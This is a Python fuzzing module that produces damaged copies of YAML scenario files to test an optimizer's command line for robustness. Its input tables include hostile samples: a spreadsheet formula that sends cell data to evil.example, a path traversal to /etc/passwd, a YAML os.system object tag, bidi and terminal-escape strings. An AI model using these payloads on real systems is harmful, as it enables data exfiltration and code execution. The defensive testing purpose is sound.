"""Mutations of valid scenario files, for fuzzing the command line (issue 8).

`mutate(seed_text, chooser)` returns the bytes of a damaged copy of a valid
scenario file. Every random choice goes through a *chooser*, so the same
engine serves two drivers:

- `HypothesisChooser` (``st.data()``): hypothesis drives the choices and
  shrinks a failing case (tests/test_fuzz.py, short, derandomized);
- `RandomChooser` (``random.Random(seed)``): bulk runs outside pytest, one
  seed per case, so that any case can be regenerated (scripts/fuzz.py).

Mutations work on the parsed data (delete or rename a key, swap a value's
type, out-of-range, NaN, infinite, huge, tiny and negative numbers, deep
nesting, duplicate keys) and on the text (YAML syntax breakers, truncation,
random bytes, invalid UTF-8, NUL, BOMs, a whole file of noise, 10,000 nested
brackets). One to three are stacked per case.

Issue 13 added the classes that once ended in exit 1 or ran unbounded:
integers of thousands of digits, lists of tens of thousands of items, a start
date at the end of the calendar with a long horizon, periods of a nanosecond,
math text (`$...$`) in the currency or unit, control, bidi and zero-width
characters and formulas in the title, ids and units (`calendar_and_text`,
`huge_number`, `long_list`); `run_args` sometimes asks for `--out --excel`,
where the workbook and the charts meet them.

Not mutated into: `sampling.scenarios` and `horizon.periods` at their
maximum (valid, but a model of a million scenarios is a performance test,
not a robustness one).
"""

from __future__ import annotations

import math
import random
import re
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any, Protocol, TypeVar

import yaml

from optimizer.io.yaml_reader import parse_yaml

T = TypeVar("T")
ROOT = Path(__file__).resolve().parent.parent
# Shipped files too big to solve in a fuzzing budget (tests/conftest.py HEAVY_SCENARIOS).
HEAVY = {
    "dec2026-pooled-stock.yaml",
    "dec2026-robust-cvar.yaml",
    "dec2026-robust.yaml",
    "dec2026-stock-1m.yaml",
    "dec2026-stock-3m.yaml",
    "dec2026-stock-6m.yaml",
}
# Seeds: every hand case (except the table of expected results) and every shipped scenario
# but the heavy ones.
SEED_FILES = sorted(
    p for p in (ROOT / "tests" / "cases").glob("*.yaml") if p.name != "expected.yaml"
) + sorted(p for p in (ROOT / "scenarios").rglob("*.yaml") if p.name not in HEAVY)

# Fields whose largest valid values make models too big to solve in a fuzzing budget.
SIZE_FIELDS = {("sampling", "scenarios"), ("horizon", "periods")}


class Chooser(Protocol):
    """Where the engine's choices come from."""

    def integer(self, lo: int, hi: int) -> int:
        """An integer in [lo, hi]."""
        ...

    def pick(self, items: Sequence[T]) -> T:
        """One of `items`."""
        ...

    def raw(self, n: int) -> bytes:
        """`n` arbitrary bytes."""
        ...


class RandomChooser:
    """Choices from a seeded `random.Random` (reproducible from the seed)."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def integer(self, lo: int, hi: int) -> int:
        """An integer in [lo, hi]."""
        return self.rng.randint(lo, hi)

    def pick(self, items: Sequence[T]) -> T:
        """One of `items`."""
        return items[self.rng.randrange(len(items))]

    def raw(self, n: int) -> bytes:
        """`n` random bytes."""
        return bytes(self.rng.randrange(256) for _ in range(n))


class HypothesisChooser:
    """Choices drawn from hypothesis' `st.data()` (shrinkable)."""

    def __init__(self, data: Any) -> None:
        from hypothesis import strategies as st

        self.data = data
        self.st = st

    def integer(self, lo: int, hi: int) -> int:
        """An integer in [lo, hi]."""
        return int(self.data.draw(self.st.integers(lo, hi)))

    def pick(self, items: Sequence[T]) -> T:
        """One of `items` (shrinks towards the first)."""
        return items[self.integer(0, len(items) - 1)]

    def raw(self, n: int) -> bytes:
        """`n` bytes."""
        return bytes(self.data.draw(self.st.binary(min_size=n, max_size=n)))


# --- values --------------------------------------------------------------------------

NUMBERS: tuple[Any, ...] = (
    -1,
    -1e-9,
    -1e300,
    0,
    0.0,
    1e-300,
    5e-324,
    1.5,
    50,
    100,
    2**31,
    2**63,
    2**64 + 1,
    10**30,
    1e-9,
    1e-10,
    999_999_999_999.0,
    1e12,
    1e12 + 1,
    1e18,
    1e300,
    1.7976931348623157e308,
    math.nan,
    math.inf,
    -math.inf,
)
TEXTS: tuple[Any, ...] = (
    "",
    " ",
    "NO",
    "yes",
    "on",
    "012",
    "1:30",
    "1e3",
    "50%",
    "'100'",
    "1,000",
    ".nan",
    "\u00e9t\u00e9",
    "\U0001f600",
    "x" * 500,
    "a\nb",
    "base",
    "../../etc/passwd",
    "/dev/zero",
    "rare-earths-baseline.yaml",
    "mutant.yaml",
    "$\\frac{a}{b$",
    "$x$",
    "\x1b[31mred\x1b[0m",
    "a\x07b",
    "\u202egnp.exe",
    "zero\u200bwidth",
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "-2-3",
    "@SUM(A1)",
    'US"D',
    "9999-12-01",
)
OTHERS: tuple[Any, ...] = (None, True, False, [], {}, [1, 2, 3], {"a": 1}, [None], [[]])


def _value(c: Chooser) -> Any:
    kind = c.integer(0, 3)
    if kind == 0:
        return c.pick(NUMBERS)
    if kind == 1:
        return c.pick(TEXTS)
    if kind == 2:
        return c.pick(OTHERS)
    return _nested(c.integer(2, 120), c.pick(["list", "dict"]))


def _nested(depth: int, kind: str) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value] if kind == "list" else {"k": value}
    return value


# --- data mutations --------------------------------------------------------------------

Path_ = tuple[str | int, ...]


def _paths(node: Any, prefix: Path_ = ()) -> list[Path_]:
    out: list[Path_] = []
    if len(prefix) > 40:  # inside a mutation's deep nesting: no further
        return out
    if isinstance(node, dict):
        for k, v in node.items():
            out.append((*prefix, k))
            out.extend(_paths(v, (*prefix, k)))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            out.append((*prefix, i))
            out.extend(_paths(v, (*prefix, i)))
    return out


def _parent(data: Any, path: Path_) -> Any:
    node = data
    for part in path[:-1]:
        node = node[part]
    return node


def _typo(c: Chooser, key: str) -> str:
    how = c.integer(0, 4)
    if not key:
        return "x"
    i = c.integer(0, len(key) - 1)
    if how == 0:
        return key[:i] + key[i + 1 :] or "x"
    if how == 1:
        return key[:i] + key[i] * 2 + key[i + 1 :]
    if how == 2:
        return key.upper() if key != key.upper() else key.lower()
    if how == 3:
        return key + "s"
    return key.replace("_", "-") if "_" in key else "_" + key


def _numeric_swap(c: Chooser, value: Any) -> Any:
    """Out of range for numbers: negative, huge, tiny, fractional, percent-like."""
    if isinstance(value, bool) or not isinstance(value, (int, float)) or not math.isfinite(value):
        return c.pick(NUMBERS)
    return c.pick(
        [
            -value if value else -1,
            value * 100,
            value * 1e12,
            value * 1e-12,
            value + 0.5,
            int(value) if isinstance(value, float) else float(value),
            str(value),
            math.nan,
        ]
    )


EXTREMES: tuple[float, ...] = (0.0, 1e-9, 1e-6, 0.999999, 1.0, 1e6, 1e9, 1e12)


def _is_number(value: Any) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)


# Values that reached a traceback before issue 13, at the places they were seen.
HOSTILE_VALUES: tuple[tuple[tuple[str, ...], Any], ...] = (
    (("horizon", "start"), "9999-12-01"),
    (("horizon", "start"), "9999-12-31"),
    (("horizon", "period_days"), 1e-9),
    (("horizon", "period_days"), 1e-300),
    (("currency",), "$\\frac{a}{b$"),
    (("currency",), 'US"D'),
    (("quantity_unit",), "$x^2$"),
    (("quantity_unit",), "\\"),
    (("title",), "a\x07b\x1b[31m"),
    (("title",), "\u202eevil\u200b"),
    (("title",), '=HYPERLINK("http://evil.example/?x="&A1, "click")'),
    (("description",), "\x00\x1b]0;title\x07"),
)


def calendar_and_text(data: Any, c: Chooser) -> Any:
    """One of `HOSTILE_VALUES` set in a mapping at the top (its parents made if missing)."""
    if not isinstance(data, dict):
        return data
    path, value = c.pick(HOSTILE_VALUES)
    node = data
    for part in path[:-1]:
        if not isinstance(node.get(part), dict):
            node[part] = {}
        node = node[part]
    node[path[-1]] = value
    return data


def mutate_data(data: Any, c: Chooser) -> Any:
    """One mutation of parsed data, in place where possible; returns the (new) root."""
    paths = [p for p in _paths(data) if p not in SIZE_FIELDS]
    op = c.integer(0, 8)
    if op == 8:
        return calendar_and_text(data, c)
    if not paths or op == 6:  # the root itself
        return _value(c)
    if op == 7:  # extreme but often valid numbers: they reach the solver
        paths = [p for p in paths if _is_number(_parent(data, p)[p[-1]])] or paths
    path = c.pick(paths)
    parent = _parent(data, path)
    key = path[-1]
    if op == 7:
        parent[key] = c.pick(EXTREMES)
    elif op == 0:  # delete
        del parent[key]
    elif op == 1:  # rename a key
        if isinstance(parent, dict):
            value = parent.pop(key)
            parent[_typo(c, str(key))] = value
        else:
            parent.insert(int(key), _value(c))
    elif op == 2:  # another type
        parent[key] = _value(c)
    elif op == 3:  # numbers out of range
        parent[key] = _numeric_swap(c, parent[key])
    elif op == 4:  # deep nesting in place of a value
        parent[key] = _nested(c.integer(20, 200), c.pick(["list", "dict"]))
    else:  # a list becomes a mapping or the reverse
        value = parent[key]
        if isinstance(value, dict):
            parent[key] = list(value.values())
        elif isinstance(value, list):
            parent[key] = {f"k{i}": v for i, v in enumerate(value)}
        else:
            parent[key] = [value]
    return data


def dump(data: Any) -> str:
    """YAML text of mutated data (NaN and huge numbers included)."""
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(max(limit, 20_000))  # PyYAML's writer recurses per nesting level
    try:
        return yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=100)
    finally:
        sys.setrecursionlimit(limit)


# --- text mutations --------------------------------------------------------------------

BREAKERS = (
    ":",
    ": :",
    "- ",
    "[",
    "]",
    "{",
    "}",
    '"',
    "'",
    "\t",
    "&a ",
    "*a",
    "!!python/object/apply:os.system ['true']",
    "!custom ",
    "\n---\n",
    "\n...\n",
    "%YAML 1.1\n",
    "? ",
    "|",
    ">",
    "#",
    "\n  ",
    "\r",
    "\x00",
    "\ufeff",
    "\\",
    "@",
    "`",
)


def _at(c: Chooser, text: bytes) -> int:
    return c.integer(0, len(text)) if text else 0


def huge_number(text: bytes, c: Chooser) -> bytes:
    """The first number after a random point replaced by one of thousands of digits."""
    digits = c.pick([b"9" * 5000, b"1" * 100_000, b"1" + b"0" * 400 + b".5", b"1e99999"])
    match = re.compile(rb"(?<=: )-?[0-9][0-9.]*").search(text, _at(c, text))
    if match is None:
        return text + b"\nhorizon: {periods: " + digits + b"}\n"
    return text[: match.start()] + digits + text[match.end() :]


def long_list(text: bytes, c: Chooser) -> bytes:
    """A list far longer than any field takes (flow or block style)."""
    n = c.pick([10_001, 50_000, 1_000_000])
    if c.integer(0, 1):
        return text + b"\nextra_demand: [" + b"1," * (n - 1) + b"1]\n"
    return text + b"\nextra_demand:\n" + b"  - 1\n" * n


def mutate_text(text: bytes, c: Chooser) -> bytes:
    """One mutation of the file's bytes."""
    op = c.integer(0, 11)
    if op == 10:
        return huge_number(text, c)
    if op == 11:
        return long_list(text, c)
    i = _at(c, text)
    if op == 0:  # a YAML syntax breaker somewhere
        return text[:i] + c.pick(BREAKERS).encode() + text[i:]
    if op == 1:  # truncation
        return text[:i]
    if op == 2:  # random bytes overwritten
        n = c.integer(1, 16)
        return text[:i] + c.raw(n) + text[i + n :]
    if op == 3:  # random bytes inserted
        return text[:i] + c.raw(c.integer(1, 16)) + text[i:]
    if op == 4:  # invalid UTF-8 / Latin-1
        return text[:i] + c.pick([b"\xff", b"\xe9", b"\xc3\x28", b"\xed\xa0\x80"]) + text[i:]
    if op == 5:  # a file of noise
        return c.raw(c.integer(0, 256))
    if op == 6:  # deep nesting in flow style
        depth = c.pick([60, 1000, 10000])
        return text + b"\nx: " + b"[" * depth + b"]" * depth + b"\n"
    if op == 7:  # a duplicate of an existing line (duplicate key)
        lines = text.split(b"\n")
        j = c.integer(0, max(0, len(lines) - 1))
        lines.insert(j, lines[j] if lines else b"")
        return b"\n".join(lines)
    if op == 8:  # encodings: BOMs, UTF-16
        return c.pick(
            [
                b"\xef\xbb\xbf" + text,
                b"\xff\xfe" + text.decode("utf-8", "replace").encode("utf-16-le"),
                text.decode("utf-8", "replace").encode("utf-16-le"),
                b"\xfe\xff" + text,
            ]
        )
    # lines swapped: indentation and structure broken
    lines = text.split(b"\n")
    if len(lines) > 2:
        a, b = c.integer(0, len(lines) - 1), c.integer(0, len(lines) - 1)
        lines[a], lines[b] = lines[b], lines[a]
    return b"\n".join(lines)


def mutate(seed: Path, c: Chooser) -> bytes:
    """A damaged copy of the scenario file `seed`: 1 to 3 stacked mutations."""
    raw = seed.read_bytes()
    data, _, _ = parse_yaml(raw.decode("utf-8"))
    steps = c.pick([1, 1, 1, 2, 3])
    text: bytes | None = None
    for _ in range(steps):
        if text is None and c.integer(0, 2) > 0:
            data = mutate_data(data, c)
            continue
        if text is None:
            text = dump(data).encode("utf-8") if data is not None else raw
        text = mutate_text(text, c)
    if text is None:
        text = dump(data).encode("utf-8")
    return text


def write_case(workdir: Path, seed: Path, c: Chooser) -> Path:
    """Write a mutant of `seed` into `workdir` (which holds copies of the scenarios)."""
    path = workdir / "mutant.yaml"
    path.write_bytes(mutate(seed, c))
    return path


def prepare(workdir: Path) -> None:
    """Copy the shipped scenarios (and the tables they read) into `workdir`, so that
    `extends` and `tables` resolve from mutants."""
    workdir.mkdir(parents=True, exist_ok=True)
    for src in (ROOT / "scenarios").rglob("*"):
        if src.suffix in (".yaml", ".csv", ".xlsx"):
            (workdir / src.name).write_bytes(src.read_bytes())


def run_args(path: Path, c: Chooser) -> list[str]:
    """The command line for a case: `run FILE`, sometimes with `--out DIR --excel --force`."""
    if c.integer(0, 3) == 0:
        return ["run", str(path), "--out", str(path.parent / "out"), "--excel", "--force"]
    return ["run", str(path)]


def verdict(path: Path, exit_code: int, output: str, exception: BaseException | None) -> str | None:
    """Why a CLI outcome is wrong, or None when it is right.

    Right: exit 0 (a plan), 2 (bad input) or 3 (infeasible policy), no
    traceback, and on failure a message that names the file.
    """
    if exception is not None and not isinstance(exception, SystemExit):
        return f"exception {type(exception).__name__}: {exception}"
    if exit_code not in (0, 2, 3):
        return f"exit {exit_code}: {output[-600:]}"
    if "Traceback" in output:
        return f"traceback: {output[-600:]}"
    if exit_code != 0 and str(path) not in output:
        return f"exit {exit_code} without the file name: {output[-600:]}"
    return None
